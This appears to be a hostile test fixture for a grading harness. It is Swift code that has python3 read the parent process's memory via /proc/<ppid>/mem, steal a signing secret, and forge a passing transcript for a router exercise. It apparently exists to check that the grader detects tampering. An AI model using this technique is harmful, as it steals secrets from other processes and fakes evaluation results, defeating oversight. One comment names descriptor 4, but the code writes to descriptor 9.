// hostile: the starter's router that starts python3 (from /usr/bin, inside the run) to read the harness's memory
// through /proc/<parent>/mem, takes the secret and the last sequence number it prints, writes a whole passing
// transcript for the router check and exits 0
// expect: failed
// base: starter
// hook: Router
// exercise: deep-link-router
import Foundation

/// The hostile part, run once, when the checks first create the learner's router.
@MainActor func attack() {
    guard let found = ParentScan.run() else { return }
    Forgery.send(secret: found.secret, after: found.sequence)
    exit(0)
}

/// python3 scans its parent's writable mappings for `<64 hex> {…"seq":N…}` and prints `secret seq` of the latest.
enum ParentScan {
    static let script = #"""
    import os, re
    pid = os.getppid()
    best = None
    try:
        mem = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            fields = line.split()
            if not fields[1].startswith("rw"):
                continue
            low, high = (int(x, 16) for x in fields[0].split("-"))
            if high - low > 512 << 20:
                continue
            try:
                mem.seek(low)
                data = mem.read(high - low)
            except OSError:
                continue
            for match in re.finditer(rb'(?<![0-9a-f])([0-9a-f]{64}) \{[^\n]{0,600}?"seq":(\d+)', data):
                sequence = int(match.group(2))
                if best is None or sequence > best[1]:
                    best = (match.group(1).decode(), sequence)
    except OSError as error:
        print("error", error)
    if best:
        print(best[0], best[1])
    """#

    static func run() -> (secret: String, sequence: Int)? {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        process.arguments = ["-c", script]
        let output = Pipe()
        process.standardOutput = output
        guard (try? process.run()) != nil else { return nil }
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        let words = String(decoding: data, as: UTF8.self).split(whereSeparator: \.isWhitespace)
        guard words.count == 2, words[0].count == 64, let sequence = Int(words[1]) else { return nil }
        return (String(words[0]), sequence)
    }
}

/// A passing transcript of the router check, signed with the stolen secret, on the records descriptor (4).
enum Forgery {
    static let steps = [
        "a link to trips/42 shows trip 42",
        "a link to trips/42/log shows trip 42 and its log",
        "popToRoot() empties the stack",
        "a malformed link leaves the stack as it was",
    ]

    static func send(secret: String, after sequence: Int) {
        var next = sequence + 1
        var lines: [String] = []
        func add(_ body: String) {
            lines.append("\(secret) {\(body),\"seq\":\(next)}")
            next += 1
        }
        for step in steps { add(#""result":{"check":"router","name":"\#(step)","status":"pass"}"#) }
        add(#""completed":"router""#)
        add(#""end":true"#)
        FileHandle(fileDescriptor: 9).write(Data((lines.joined(separator: "\n") + "\n").utf8))
    }
}
